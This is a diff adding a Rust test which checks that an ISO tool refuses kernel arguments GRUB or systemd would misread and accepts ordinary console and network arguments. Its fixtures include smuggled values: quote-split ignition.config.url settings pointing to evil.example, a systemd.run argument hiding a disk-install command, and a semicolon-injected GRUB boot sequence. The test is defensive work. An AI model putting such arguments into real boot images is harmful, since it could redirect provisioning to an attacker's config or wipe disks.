@@ -235,3 +235,133 @@ fn kernel_arguments_of_the_system_area_header() {
         );
     }
 }
+
+/// Review 15 r15c F1 and F3, r15b F5: arguments `coreos-installer iso
+/// kargs modify -a` writes as given, which GRUB (quotes, backslashes,
+/// `$var`, `;`) or systemd (quotes, runlevel words) read as another
+/// argument, or other GRUB commands, than `iso kargs show` says, are
+/// refused by `iso show`, `iso embed` and `iso fleet`, naming the argument
+/// and the fix; an argument that changes what the fleet's selector reads
+/// on the live system (`nosmt`) is refused by `iso fleet` only; the
+/// console and network arguments are taken by all three.
+#[test]
+fn kernel_arguments_read_otherwise_by_grub_or_systemd_are_refused() {
+    let Some(fx) = fixtures() else { return };
+    let Some(ci) = skipped::tool("coreos-installer") else {
+        return;
+    };
+    let tmp = scratch_dir();
+    let d = tmp.path();
+    let base = base_iso(d, &fx);
+    let config = d.join("c.ign");
+    std::fs::write(&config, r#"{"ignition":{"version":"3.2.0"}}"#).unwrap();
+    let fleet = |iso: &Path| {
+        fleet_args(d)
+            .args(["--dry-run", "--dest-device", "/dev/sda", "--pool=worker"])
+            .arg(iso)
+            .output()
+            .unwrap()
+    };
+    let cases: &[(&str, &str)] = &[
+        ("systemd.'unit'=kernel-command-line.target", "holds `'`"),
+        (
+            "systemd.r'un'=\"coreos-installer install /dev/sda --ignition-url http://x\"",
+            "systemd.r'un'=",
+        ),
+        (
+            "ign'ition'.config.url=http://evil.example/x.ign",
+            "holds `'`",
+        ),
+        (
+            "\\ignition.config.url=http://evil.example/x.ign",
+            "holds `\\`",
+        ),
+        (
+            "ign${x}ition.config.url=http://evil.example/x.ign",
+            "holds `$`",
+        ),
+        ("systemd.u${n}nit=kernel-command-line.target", "holds `$`"),
+        ("; initrd /images/pxeboot/initrd.img ; boot", "holds `;`"),
+        ("3", "3 (systemd reads a runlevel"),
+        ("-b", "-b (the kernel gives it"),
+    ];
+    for (i, (arg, needle)) in cases.iter().enumerate() {
+        let append = format!("--append={arg}");
+        let iso = modified(&ci, &base, d.join(format!("q{i}.iso")), &[&append]);
+        assert!(shown(&ci, &iso, false).ends_with(arg));
+        let before = std::fs::read(&iso).unwrap();
+        let o = run(bin().args(["iso", "show"]).arg(&iso));
+        let e = stderr(&o);
+        assert_eq!(o.status.code(), Some(1), "{arg}: {e}");
+        assert!(
+            e.contains(needle) && e.contains("kargs reset") && e.contains("modify -d"),
+            "{needle}: {e}"
+        );
+        let out = d.join(format!("q{i}-out.iso"));
+        let o = run(bin()
+            .args(["iso", "embed", "-f", "-i"])
+            .arg(&config)
+            .arg("-o")
+            .arg(&out)
+            .arg(&iso));
+        assert_eq!(o.status.code(), Some(1), "{arg}: {}", stderr(&o));
+        assert!(stderr(&o).contains(needle), "{}", stderr(&o));
+        assert!(!out.exists());
+        let o = fleet(&iso);
+        assert_eq!(o.status.code(), Some(1), "{arg}: {}", said(&o));
+        assert!(said(&o).contains(needle), "{}", said(&o));
+        assert!(std::fs::read(&iso).unwrap() == before, "the image changed");
+    }
+    // nosmt: the embedded config runs (one pool: nothing chosen on the
+    // live system), the fleet refuses it.
+    let nosmt = modified(&ci, &base, d.join("nosmt.iso"), &["-a", "nosmt"]);
+    let out = d.join("nosmt-out.iso");
+    ok(run(bin()
+        .args(["iso", "embed", "-i"])
+        .arg(&config)
+        .arg("-o")
+        .arg(&out)
+        .arg(&nosmt)));
+    ok(run(bin().args(["iso", "show"]).arg(&out)));
+    let o = fleet(&nosmt);
+    assert_eq!(o.status.code(), Some(1), "{}", said(&o));
+    assert!(
+        said(&o).contains("nosmt (CPU topology") && said(&o).contains("modify -d"),
+        "{}",
+        said(&o)
+    );
+    // The console and the network, v4 and v6: taken by all three.
+    let net = modified(
+        &ci,
+        &base,
+        d.join("net.iso"),
+        &[
+            "-a",
+            "console=ttyS0,115200n8",
+            "-a",
+            "ip=10.0.0.2::10.0.0.1:255.255.255.0:node1.example.com:enp1s0:none",
+            "-a",
+            "ip=[2001:db8::2]::[2001:db8::1]:64:node1.example.com:enp1s0:none",
+            "-a",
+            "nameserver=10.0.0.53",
+            "-a",
+            "rd.neednet=1",
+            "-a",
+            "bond=bond0:em1,em2:mode=active-backup,miimon=100",
+            "-a",
+            "vlan=vlan5:bond0",
+            "-a",
+            "rd.znet=qeth,0.0.bdf0,0.0.bdf1,0.0.bdf2,layer2=1,portno=0",
+        ],
+    );
+    let out = d.join("net-out.iso");
+    ok(run(bin()
+        .args(["iso", "embed", "-i"])
+        .arg(&config)
+        .arg("-o")
+        .arg(&out)
+        .arg(&net)));
+    ok(run(bin().args(["iso", "show"]).arg(&out)));
+    let o = fleet(&net);
+    assert!(o.status.success(), "{}", said(&o));
+}
